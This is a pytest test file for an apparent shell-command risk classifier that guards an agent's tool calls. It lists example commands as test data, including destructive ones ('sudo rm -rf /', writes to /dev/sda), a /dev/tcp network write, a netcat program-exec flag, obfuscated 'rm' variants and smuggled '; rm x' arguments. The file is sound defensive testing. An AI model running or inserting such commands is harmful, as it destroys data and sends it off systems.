"""What a command would run is named, and what nobody can tell from its text is the worst there is."""

import subprocess
import time
from pathlib import Path

import pytest
from tests.oracle.policy_world import tool

from holdfast.contracts import Effect
from holdfast.safety.policy.shell_arguments import commands_of
from holdfast.safety.shell import MOST_BYTES, Risk, commands_in
from holdfast.safety.shell.programs import PROGRAMS

READ, WRITE, NETWORK, PRIVILEGE, DESTRUCTIVE, UNKNOWN = Risk

KNOWN = {
    "ls -la | grep x && wc -l < f": ({"ls", "grep", "wc"}, READ),
    "/usr/bin/cat a; /bin/ls": ({"cat", "ls"}, READ),
    'for i in a b; do cat "$i"; done': ({"cat"}, READ),
    "if test -f x; then echo y; fi": ({"test", "echo"}, READ),
    "case $x in a) ls;; esac": ({"ls"}, READ),
    "A=1 ls": ({"ls"}, READ),
    "ls > out": ({"ls"}, WRITE),
    "ls 2>&1 >/dev/null": ({"ls"}, READ),
    "mkdir -p a && touch a/b": ({"mkdir", "touch"}, WRITE),
    "git log --oneline": ({"git"}, READ),
    "git log --outp=x": ({"git"}, WRITE),
    "git commit -m 'a $b'": ({"git"}, WRITE),
    "git push origin main": ({"git"}, NETWORK),
    "git push --force origin main": ({"git"}, DESTRUCTIVE),
    "git push origin :main": ({"git"}, DESTRUCTIVE),
    "curl https://a.example": ({"curl"}, NETWORK),
    "cat x > /dev/tcp/1.2.3.4/80": ({"cat"}, NETWORK),
    "echo x > /dev/sda": ({"echo"}, DESTRUCTIVE),
    "sudo ls": ({"sudo", "ls"}, PRIVILEGE),
    "sudo rm -rf /": ({"sudo", "rm"}, DESTRUCTIVE),
    "echo $(rm x)": ({"echo", "rm"}, DESTRUCTIVE),
    "echo `rm x`": ({"echo", "rm"}, DESTRUCTIVE),
    "cat <(rm x)": ({"cat", "rm"}, DESTRUCTIVE),
    "cat <<EOF\n$(rm x)\nEOF\n": ({"cat", "rm"}, DESTRUCTIVE),
    '"rm" x': ({"rm"}, DESTRUCTIVE),
    "'r'm x": ({"rm"}, DESTRUCTIVE),
    "bash -c 'rm x'": ({"bash", "rm"}, DESTRUCTIVE),
    "sh -c \"sh -c 'rm x'\"": ({"sh", "rm"}, DESTRUCTIVE),
    "eval 'rm x'": ({"eval", "rm"}, DESTRUCTIVE),
    "env A=1 rm x": ({"env", "rm"}, DESTRUCTIVE),
    "timeout 5 rm x": ({"timeout", "rm"}, DESTRUCTIVE),
    "ls | xargs rm": ({"ls", "xargs", "rm"}, DESTRUCTIVE),
    "find . -name x -delete": ({"find"}, DESTRUCTIVE),
    "find . -name x": ({"find"}, READ),
    "f() { rm x; }": ({"rm"}, UNKNOWN),
}  # fmt: skip
HIDDEN = [
    "if true; then ls",
    "for i in a; do ls",
    "case x in a) ls",
    "{ ls",
    "$(ls",
    "(ls",
    "[[ -f x",
    "ls <<E\nx",
    "$CMD x",
    "r\\m x",
    "$'\\x72m' x",
    "{ls,rm} x",
    "`echo rm` x",
    "~/x",
    "./x",
    "/opt/ls",
    "l? x",
    "python -c 1",
    "awk 1",
    "sed e",
    "make",
    "ssh a b",
    "sh x.sh",
    "cat x | sh",
    "eval $x",
    ". x",
    "source x",
    "alias ls=rm; ls",
    "find . -exec rm {} +",
    "xargs -n1 ls",
    "timeout -s 9 5 ls",
    "env -S 'rm x'",
    "sudo -u x ls",
    "LD_PRELOAD=x ls",
    "PATH=. ls",
    "export PATH=.; ls",
    "env PATH=. ls",
    "git -c a.b=c status",
    "git fetch --upload-p=x",
    "git clone -c a.b=c d",
    "git $x",
    "git bisect run x",
    "wget --use-askpass=x y",
    "nc -le x 1",
    "coproc rm x",
    "trap x EXIT",
    'echo "',
    "(",
    "ls &&",
    'sh -c "$x"',
    "su -c ls",
    "chroot / ls",
    "ls \x00",
    "ls\r",
    "rg --pre x y",
    "sort --compress-program=x",
    "x" * (MOST_BYTES + 1),
    "",
]


def test_what_a_command_runs_is_named_with_the_worst_it_does() -> None:
    for script, (programs, risk) in KNOWN.items():
        seen = commands_in([script], [])
        assert (set(seen.programs), seen.risk) == (programs, risk), script


def test_what_nobody_can_tell_from_its_text_is_unknown() -> None:
    for script in HIDDEN[:-1]:
        assert commands_in([script], []).risk is UNKNOWN, script


def test_nothing_is_nothing() -> None:
    assert commands_in([], []).risk is None
    assert commands_in(["", "# a comment"], []).count == 0


def test_a_list_of_words_is_read_without_a_shell() -> None:
    assert commands_in([], [["ls", "$(rm x)", "; rm x"]]).risk is READ
    assert commands_in([], [["sh", "-c", "rm x"]]).risk is DESTRUCTIVE
    assert commands_in([], [["ls x"]]).risk is UNKNOWN


def test_no_script_of_the_longest_length_keeps_the_reader_long() -> None:
    for piece in ("<<-E\n", "$(", "${", "`", "<<A ", "a ", "'", "((", "case x in "):
        began = time.process_time()
        commands_in([(piece * MOST_BYTES)[:MOST_BYTES]], [])
        assert time.process_time() - began < 2, piece


def test_a_listed_program_that_is_here_is_no_shell_script_in_disguise() -> None:
    """Of the programs in `/usr/bin` that are listed as reading, none is a link to one that is not."""
    for name, risk in PROGRAMS.items():
        path = Path("/usr/bin") / name
        target = path.resolve().name if path.is_symlink() else name
        shared = {"busybox", "coreutils", "bzip2", "gzip", "xz", "kmod", "zstd", "nc.openbsd", "ncat", "nc.traditional"}
        assert PROGRAMS.get(target, risk) is risk or target in shared or risk is not READ, name


def test_dash_agrees_on_what_is_no_command_at_all() -> None:
    """What the shell itself refuses to parse is never called harmless here."""
    for script in [*KNOWN, *HIDDEN]:
        if "\x00" in script or "<(" in script:
            continue
        refused = subprocess.run(["/bin/sh", "-n"], input=script.encode(), capture_output=True, check=False).returncode
        assert not refused or commands_in([script], []).risk is UNKNOWN, script


@pytest.mark.parametrize(
    ("arguments", "programs"),
    [
        ({"script": "ls; wc x"}, {"ls", "wc"}),
        ({"argv": ["git", "status"]}, {"git"}),
        ({"command": "ls -l"}, {"ls"}),
        ({"command": "ls", "args": ["-l", "; rm x"]}, {"ls"}),
        ({"shellCommand": "ls"}, {"ls"}),
        ({"commands": ["ls", "wc x"]}, {"ls", "wc"}),
        ({"path": "rm x", "text": "rm x"}, set()),
    ],
)
def test_the_arguments_that_are_commands_are_known_by_name(arguments: dict[str, object], programs: set[str]) -> None:
    runs = tool("runs", {}, Effect.EXECUTE)

    assert commands_of(runs, arguments).programs == programs  # type: ignore[arg-type]
    assert commands_of(tool("reads", {}, Effect.READ_PRIVATE), arguments).count == 0  # type: ignore[arg-type]
